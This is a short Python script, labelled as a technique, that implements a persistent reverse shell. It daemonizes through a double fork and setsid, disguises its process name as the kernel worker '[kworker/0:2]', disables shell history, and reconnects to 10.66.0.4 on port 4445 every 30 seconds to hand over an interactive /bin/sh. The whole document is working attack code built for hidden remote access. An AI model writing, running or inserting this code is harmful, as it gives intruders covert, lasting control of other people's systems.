# technique: reverse shell that forks into background, daemonizes with setsid and renames its process title to look like a kernel worker
import os, socket, sys, pty

if os.fork() > 0:
    sys.exit(0)
os.setsid()
if os.fork() > 0:
    sys.exit(0)

try:
    import ctypes
    libc = ctypes.CDLL(None)
    libc.prctl(15, b"[kworker/0:2]", 0, 0, 0)   # PR_SET_NAME
except Exception:
    pass

sys.argv[0] = "[kworker/0:2]"
while True:
    try:
        s = socket.socket()
        s.connect(("10.66.0.4", 4445))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        os.putenv("HISTFILE", "/dev/null")
        pty.spawn(["/bin/sh", "-i"])
    except Exception:
        import time
        time.sleep(30)
